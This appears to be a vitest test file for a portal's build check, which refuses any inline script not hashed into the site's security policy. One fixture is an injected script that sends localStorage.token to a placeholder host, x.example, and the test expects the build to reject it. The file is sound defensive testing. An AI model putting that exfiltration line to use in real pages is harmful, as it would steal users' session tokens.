// Only the portal's own inline scripts are hashed into the policy; any other fails the build, naming the
// page (product-rules R221).
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { createHash } from 'node:crypto';
import { afterEach, describe, expect, it } from 'vitest';
import { inlineScriptHashes, inlineScriptsIn, ownInlineScripts } from '../../../scripts/security-headers.ts';

const own = ownInlineScripts();
const headScript = own["BaseLayout's head script"]!;
const loadDirective = own["Astro's client:load directive"]!;
const hash = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`;

const dists: string[] = [];
afterEach(() => {
  for (const dist of dists.splice(0)) rmSync(dist, { recursive: true, force: true });
});
/** A small dist/ with these pages (path → HTML). */
function distWith(pages: Record<string, string>): string {
  const dist = mkdtempSync(join(tmpdir(), 'inline-scripts-'));
  dists.push(dist);
  for (const [path, html] of Object.entries(pages)) {
    mkdirSync(dirname(join(dist, path)), { recursive: true });
    writeFileSync(join(dist, path), html);
  }
  return dist;
}
const page = (body: string) => `<!doctype html><html><head><script>${headScript}</script></head><body>${body}</body></html>`;

describe('inlineScriptsIn (R221)', () => {
  it.each([
    ['a plain script', '<script>alert(1)</script>', ['alert(1)']],
    ['a module script', '<script type="module">alert(1)</script>', ['alert(1)']],
    ['upper case', '<SCRIPT>alert(1)</SCRIPT >', ['alert(1)']],
    ['a data-src attribute, which is not src', '<script data-src="x.js">alert(1)</script>', ['alert(1)']],
    ['"src=" inside another attribute\'s value', '<script title=" src=x.js">alert(1)</script>', ['alert(1)']],
    ['a ">" inside a quoted value', '<script title="a>b">alert(1)</script>', ['alert(1)']],
    ['a tag it cannot read (counted, so it must be allowed)', '<script "src=x.js">alert(1)</script>', [' "src=x.js">alert(1)']],
    ['a script never closed', '<script>alert(1)', ['alert(1)']],
  ])('finds %s', (_what, html, codes) => {
    expect(inlineScriptsIn(html)).toEqual(codes);
  });

  it.each([
    ['an external script', '<script type="module" src="/_astro/page.js"></script>'],
    ['an external script with code between its tags (a browser ignores it)', '<script src=/x.js>alert(1)</script>'],
    ['an empty script', '<script> </script>'],
    ['a tag that only starts like script', '<scripts>alert(1)</scripts>'],
  ])('skips %s', (_what, html) => {
    expect(inlineScriptsIn(html)).toEqual([]);
  });
});

describe('inlineScriptHashes', () => {
  it("hashes the portal's own inline scripts: BaseLayout's head script and Astro's island scripts (R221)", () => {
    const dist = distWith({
      'campanhas/index.html': page(`<script>${loadDirective}</script><script>${own["Astro's island element"]}</script>`),
      '404.html': page('<script type="module" src="/_astro/not-found.js"></script>'),
    });
    expect(inlineScriptHashes(dist)).toEqual([headScript, loadDirective, own["Astro's island element"]!].map(hash).sort());
  });

  it('fails on any other inline script, naming each page and the start of the script (R221)', () => {
    const dist = distWith({
      'campanhas/index.html': page(''),
      'duvitas/index.html': page(
        '<details><div class="faq-answer"><p>Oi</p><script>fetch("//x.example?"+localStorage.token)</script></div></details>',
      ),
      'offline/index.html': page('<script type="module">document.body.dataset.x="1"</script>'),
    });
    expect(() => inlineScriptHashes(dist)).toThrow(
      /R221\), refused:\n {2}duvitas\/index\.html: <script>fetch\("\/\/x\.example\?"\+localStorage\.token\)\n {2}offline\/index\.html: <script>document\.body\.dataset\.x="1"\n/,
    );
  });

  it('a script of the layouts that changed is not the one allowed (R221)', () => {
    const dist = distWith({ 'campanhas/index.html': page('').replace(headScript, `${headScript};alert(1)`) });
    expect(() => inlineScriptHashes(dist)).toThrow(/campanhas\/index\.html/);
  });
});
